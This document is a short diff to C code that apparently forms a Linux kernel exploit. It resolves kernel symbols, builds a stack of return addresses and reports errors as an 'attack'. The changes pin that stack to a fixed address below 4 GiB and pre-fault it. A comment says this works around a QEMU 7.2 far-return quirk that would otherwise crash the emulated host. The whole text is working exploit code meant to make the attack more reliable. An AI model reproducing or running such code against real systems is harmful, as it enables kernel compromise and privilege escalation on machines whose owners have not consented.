@@ -104,6 +104,8 @@ static void reset(void)
 	for (int i = 0; i < 16; i++)
 		at_jump.gpr[i] = (uint64_t)area;
 	at_jump.gpr[RSP] = (uint64_t)(returns + 512);
+	// There, and not at the first access: see `main`.
+	(void)*(volatile uint64_t *)(returns + 512);
 	if (apart)
 		return;
 	// What the wedge takes back from there.
@@ -527,7 +529,13 @@ int main(int arguments, char **argument)
 	canary = symbol("init_uts_ns") + sizeof before.sysname;
 	uint64_t restores = symbol("restore_fpregs_from_fpstate");
 	step();
-	returns = mmap(NULL, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
+	// QEMU 7.2 does far returns of programs with the rights of a kernel, and those with operands of 32 bits with half of the stack pointer: if no
+	// memory is there, that is the end of the emulated host.
+	returns = mmap((void *)0x90000000, 4 * PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS | MAP_FIXED_NOREPLACE, -1, 0);
+	if (returns == MAP_FAILED) {
+		perror("attack: no memory below 4 GiB");
+		return 1;
+	}
 	for (int i = 0; i < 4 * PAGE / 8; i++)
 		returns[i] = (uint64_t)after;
 
